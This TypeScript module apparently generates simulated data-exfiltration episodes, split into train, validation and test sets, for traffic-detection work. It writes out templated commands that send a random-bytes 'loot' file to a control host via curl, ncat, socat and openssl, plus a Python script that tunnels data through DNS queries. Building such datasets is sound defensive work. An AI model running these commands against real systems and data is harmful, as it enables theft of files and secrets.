/** Exfiltration: what was stolen goes out, in bulk or in drips, openly or hidden in names. */
import type { Serving } from '../programs/conversation.ts';
import { type Family, type Stage, byPart, spread } from './episode.ts';
import { type Make, about, errand, implant, loop, ports, serving } from './implant.ts';

const ownTheft: Make = (stage, from, control) => {
  const { random } = stage;
  const jitter = random.pick([0.1, 0.3, 0.5]);
  const bulk = random.next() < 0.5;
  const sends = bulk ? about(stage, 200_000, 4_000_000) : about(stage, 15_000, 200_000);
  const everyMs = bulk ? spread(random, 1200, 6000) : spread(random, 400, 4000);
  const isTls = random.next() < 0.5;
  return random.pick([
    () =>
      implant(
        stage,
        from,
        control,
        'http',
        serving('http', control, random.pick(isTls ? ports.https : ports.http), isTls),
        everyMs,
        { sends, asks: [5, 60], per: [1, random.pick([1, 1, 3])] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'http',
        serving('http', control, random.pick(isTls ? ports.https : ports.http), isTls),
        everyMs,
        { sends, asks: [5, 60], per: [1, random.pick([1, 1, 3])] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'kept',
        serving('framed', control, random.pick(ports.framed)),
        everyMs,
        { sends, asks: [2, 20], per: [1, 1] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'kept',
        serving('framed', control, random.pick(ports.framed)),
        everyMs / 2,
        { sends: about(stage, 8000, 90_000), asks: [2, 20], per: [20, 200] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'name',
        serving('names', control, 53),
        spread(random, 30, 400),
        { sends: [40, 60], per: [1, 3], gapMs: 30 },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'tell',
        serving('datagrams', control, random.pick(ports.datagrams)),
        spread(random, 300, 2000),
        { sends: [600, 1400], per: [10, 200], gapMs: spread(random, 2, 40), share: random.pick([0, 1]) },
        jitter,
      ),
  ])();
};

const upload =
  (
    tool: string,
    commandOf: (stage: Stage, from: string, control: string) => { command: string; servings: Serving[]; what: string },
  ): Make =>
  (stage, from, control) => {
    const { random } = stage;
    const bytes = Math.round(spread(random, 20_000, 6_000_000));
    const everyMs = spread(random, 500, 5000);
    const { command, servings, what } = commandOf(stage, from, control);
    const made = loop(
      tool,
      `${what} ${bytes} B`,
      everyMs,
      0.3,
      `head -c $((${bytes} * (50 + RANDOM % 100) / 100)) /dev/urandom >{folder}/loot; ${command}`,
      servings,
      random.integer(1, 1e6),
    );
    return made;
  };

const curlUpload = upload('curl', ({ random }, from, control) => {
  const isTls = random.next() < 0.5;
  const port = random.pick(isTls ? ports.https : ports.http);
  return {
    what: isTls ? 'https' : 'http',
    servings: [serving('http', control, port, isTls)],
    command: `curl -k -s -m 40 --interface ${from} ${random.pick(['-T {folder}/loot', '--data-binary @{folder}/loot', '-F file=@{folder}/loot'])} -o /dev/null http${isTls ? 's' : ''}://${control}:${port}/${random.word(6)}?size=20`,
  };
});
const ncatUpload = upload('ncat', ({ random }, from, control) => {
  const port = random.pick(ports.framed);
  return {
    what: 'tcp',
    servings: [serving('silence', control, port)],
    command: `timeout 40 ncat -s ${from} --send-only ${control} ${port} <{folder}/loot`,
  };
});
const socatUpload = upload('socat', ({ random }, from, control) => {
  const port = random.pick(ports.framed);
  return {
    what: 'tcp',
    servings: [serving('silence', control, port)],
    command: `timeout 40 socat -u OPEN:{folder}/loot TCP:${control}:${port},bind=${from}`,
  };
});
const opensslUpload = upload('openssl', ({ random }, from, control) => {
  const port = random.pick(ports.https);
  return {
    what: 'tls',
    servings: [serving('framed', control, port, true)],
    command: `timeout 30 openssl s_client -quiet -bind ${from}:0 -connect ${control}:${port} <{folder}/loot >/dev/null 2>&1`,
  };
});

const pythonNames: Make = ({ random }, from, control) => {
  const gap = spread(random, 0.02, 0.4);
  const script = `
import random, socket, string, time
random.seed(${random.integer(1, 1e6)})
letters = string.ascii_lowercase + string.digits
while True:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.bind(("${from}", 0))
    made.settimeout(2)
    labels = ["".join(random.choice(letters) for _ in range(random.randint(30, 63))) for _ in range(random.randint(1, 3))] + ["t", "example"]
    query = random.randbytes(2) + bytes([1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b"".join(bytes([len(one)]) + one.encode() for one in labels) + bytes([0, 0, 16, 0, 1])
    try:
        made.sendto(query, ("${control}", 53))
        made.recv(600)
    except OSError:
        pass
    made.close()
    time.sleep(random.expovariate(1 / ${gap.toFixed(3)}))
`;
  return {
    tool: 'python',
    step: `python names every ${(gap * 1000).toFixed(0)} ms`,
    argv: ['/usr/bin/python3', '{folder}/script'],
    files: { script },
    servings: [serving('names', control, 53)],
  };
};

export const exfiltration: Family = errand(
  'data_exfiltration',
  ({ random }) => random.integer(20, 60),
  ({ part, random }) =>
    random.pick(
      byPart(part, {
        train: [ownTheft],
        validation: [curlUpload, socatUpload, ownTheft],
        test: [ncatUpload, opensslUpload, curlUpload, pythonNames],
      }),
    ),
);
